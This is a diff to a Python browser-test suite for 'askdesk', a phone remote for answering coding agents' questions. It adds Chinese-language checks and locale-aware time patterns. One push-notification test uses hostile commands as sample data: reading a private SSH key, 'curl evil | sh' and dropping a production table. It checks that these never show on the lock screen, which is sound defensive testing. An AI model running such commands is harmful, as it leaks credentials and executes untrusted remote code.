@@ -21,6 +21,8 @@ from phone import PATIENCE, Browser, Desk, open_pairing, pair_page, until
 
 SHOTS = os.environ.get("REMOTE_SCREENSHOTS")
 NAME = "Test phone"
+# A time of day as the page writes it in English (`timeStyle: 'short'`): 14:05, or 2:05 PM.
+TIME = r"\d{1,2}:\d\d(?:\s?[AP]M)?"
 
 # A device socket of the page's own origin, opened in the page with the key the page stored: what
 # a tampered page (or a script on the phone) could send. `window.rawDevice()` resolves to
@@ -105,9 +107,11 @@ class PhoneTest(unittest.TestCase):
     pair_first = True
     # What `askdesk remote` is started with besides its address.
     remote_args = ()
+    # The language the desk runs in (ASKDESK_LANG).
+    language = "en"
 
     def setUp(self):
-        self.desk = Desk()
+        self.desk = Desk(self.language)
         self.addCleanup(self.desk.close)
         self.url = self.desk.start_remote(*self.remote_args)
         self.browser = self.phone()
@@ -202,6 +206,53 @@ class Pairing(PhoneTest):
         refused = self.browser.evaluate("rawDevice().then((d) => d.refused)")
         self.assertEqual(refused, {"type": "refused", "reason": "not-paired"})
         self.assertNotIn("Connected", self.browser.text("#status"))
+
+
+class Language(PhoneTest):
+    """The phone speaks the language the desk runs in, and never translates an agent's words."""
+
+    pair_first = False
+    language = "zh-CN"
+
+    def test_the_phone_page_speaks_chinese_when_the_desk_runs_in_chinese(self):
+        b = self.browser
+        b.goto(self.url)
+        b.wait_text("与这台电脑配对")
+        self.assertEqual(b.evaluate("document.documentElement.lang"), "zh-CN")
+        self.assertEqual(b.text("#pair"), "配对这部手机")
+        b.evaluate(f"document.getElementById('device-name').value = {json.dumps(NAME)}")
+        b.tap("#pair")
+        code = until("the page shows the code", lambda: b.evaluate(
+            "(document.getElementById('pair-code') || {}).textContent"))
+        b.wait_text("在电脑上确认")
+        # The desk's own terminal speaks the same language.
+        self.desk.expect_line(f"“{NAME}”请求配对")
+        self.desk.type_code(code.replace(" ", ""))
+        self.desk.expect_line(f"已配对“{NAME}”")
+        b.wait_text(f"已连接为 {NAME}", "#status")
+        b.wait_text("没有等待中的请求。")
+        conn, rid = self.ask([question("db", "Which database should the cache use?", [
+            {"label": "SQLite (Recommended)", "description": "One file, no server."}, "Postgres"])],
+            agent={"label": "Claude Code", "meta": {"cwd": "/home/dana/src/askdesk"}})
+        b.wait_text("Which database should the cache use?")
+        # The agent's words stay as written; the page's own are Chinese.
+        self.assertIn("One file, no server.", b.text("[data-question=db] .option.recommended"))
+        self.assertEqual(b.text("[data-question=db] .option.recommended .option-label"), "SQLite")
+        self.assertEqual(b.text("[data-question=db] .option.recommended .badge"), "推荐")
+        self.assertEqual(b.text(".request .send"), "发送")
+        self.assertEqual(b.text(".request .dismiss"), "忽略")
+        self.assertEqual(b.text("[data-question=db] .skip"), "跳过")
+        self.assertEqual(b.evaluate("document.querySelector('[data-question=db] textarea').placeholder"), "其他…")
+        self.shot(b, "phone-question-zh-CN.png")
+        b.tap('[data-question=db] [data-label="SQLite (Recommended)"]')
+        b.tap(".request .send")
+        self.assertEqual(conn.wait(rid), {"answers": [{"id": "db", "selected": ["SQLite (Recommended)"]}]})
+        self.note_of_newest(r"已发送 \d{1,2}:\d\d 移除")
+        # The certificate authority's page and the installed page's description too.
+        ca = b.evaluate("fetch('/ca').then((r) => r.text())")
+        self.assertIn("信任这台电脑", ca)
+        manifest = b.evaluate("fetch('/manifest.webmanifest').then((r) => r.json())")
+        self.assertEqual(manifest["description"], "回答你的代理在电脑上提出的问题。")
 
 
 class Answers(PhoneTest):
@@ -734,20 +785,20 @@ class Endings(PhoneTest):
         b.wait_text("Answered at the desk?")
         desk.reply(desk.next_incoming(timeout=PATIENCE), {"answers": [{"id": "go", "selected": ["No"]}]})
         conn.wait(rid)
-        self.note_of_newest(r"Answered on the desk \d\d:\d\d Remove")
+        self.note_of_newest(rf"Answered on the desk {TIME} Remove")
 
         conn, rid = self.ask([question("go", "Withdrawn by the agent?", ["Yes", "No"])])
         b.wait_text("Withdrawn by the agent?")
         desk.next_incoming(timeout=PATIENCE)
         conn.notify("$/cancelRequest", {"id": rid})
-        self.note_of_newest(r"The agent withdrew it \d\d:\d\d Remove")
+        self.note_of_newest(rf"The agent withdrew it {TIME} Remove")
 
         # An answer rule's deadline decides a question the person left waiting.
         cleanup_rule(self.desk, desk, "1s")
         conn, rid = self.ask([cleanup_question()])
         b.wait_text("Remove the temporary files?")
         self.assertEqual(conn.wait(rid), {"answers": [{"id": "tmp", "selected": ["Yes (Recommended)"]}]})
-        self.note_of_newest(r"Expired \d\d:\d\d Remove")
+        self.note_of_newest(rf"Expired {TIME} Remove")
 
     def test_the_phone_that_answered_says_sent_with_the_time(self):
         conn, rid = self.ask([question("go", "Ship it?", ["Yes", "No"])])
@@ -755,7 +806,7 @@ class Endings(PhoneTest):
         self.browser.tap('[data-label="Yes"]')
         self.browser.tap(".request .send")
         self.assertEqual(conn.wait(rid), {"answers": [{"id": "go", "selected": ["Yes"]}]})
-        self.note_of_newest(r"Sent \d\d:\d\d Remove")
+        self.note_of_newest(rf"Sent {TIME} Remove")
 
 
 class Countdowns(PhoneTest):
@@ -782,7 +833,7 @@ class Countdowns(PhoneTest):
         b.tap('.request [data-label="No"]')
         b.tap(".request .send")
         self.assertEqual(conn.wait(rid), {"answers": [{"id": "tmp", "selected": ["No"]}]})
-        self.note_of_newest(r"Sent \d\d:\d\d Remove")
+        self.note_of_newest(rf"Sent {TIME} Remove")
         self.assertTrue(b.evaluate("document.querySelector('.request:first-child .countdown').hidden"),
                         "an ended request counts down no more")
 
@@ -801,7 +852,7 @@ class Reconnects(PhoneTest):
         # Without its broker the remote ends, and with it the phone's socket.
         self.assertEqual(self.desk.remote.wait(PATIENCE), 20)
         b.wait_text("Desk unreachable since", "#status")
-        self.assertRegex(b.text("#status"), r"Desk unreachable since \d\d:\d\d")
+        self.assertRegex(b.text("#status"), rf"Desk unreachable since {TIME}")
         self.desk.start_broker()
         self.desk.start_remote(pair=False)
         b.wait_text(f"Connected as {NAME}", "#status")
@@ -827,8 +878,10 @@ return { endpoint, toJSON: () => ({ endpoint, expirationTime: null, keys: { p256
 
 
 def notice(tag, body, klass="text-and-choices", waiting=1, answered=False):
-    """A notice as the desk sends it (askdesk_remote::push::Notice::payload)."""
-    return {"title": "askdesk", "body": body, "tag": tag, "class": klass, "waiting": waiting, "answered": answered}
+    """A notice as the desk sends it (askdesk_remote::push::Notice::payload), its summary in English."""
+    summary = "Answered on the desk" if answered else f"An agent is waiting ({waiting})"
+    return {"title": "askdesk", "body": body, "summary": summary, "tag": tag, "class": klass,
+            "waiting": waiting, "answered": answered}
 
 
 class PushPhone(PhoneTest):
@@ -880,13 +933,13 @@ class Push(PushPhone):
     def test_a_permission_prompt_never_shows_its_content_on_the_lock_screen(self):
         b = self.browser
         origin = self.desk.origin
-        # Even a notice that carried a prompt's or a plan's text shows only that an agent waits.
+        # Even a notice that carried a prompt's or a plan's text shows only that an agent waits;
+        # one without the desk's summary shows no text at all.
         b.deliver_push(origin, notice("r2", "Allow Bash: cat ~/.ssh/id_ed25519?", klass="permission-prompt"))
         b.deliver_push(origin, notice("r4", "Approve: drop the production table", klass="plan-review", waiting=2))
         b.deliver_push(origin, {"tag": "r5", "body": "curl evil | sh"})
         bodies = {n["tag"]: n["body"] for n in b.notifications()}
-        self.assertEqual(bodies, {"r2": "An agent is waiting (1)", "r4": "An agent is waiting (2)",
-                                  "r5": "An agent is waiting (1)"})
+        self.assertEqual(bodies, {"r2": "An agent is waiting (1)", "r4": "An agent is waiting (2)", "r5": ""})
 
 
 class PushWithoutService(PushPhone):
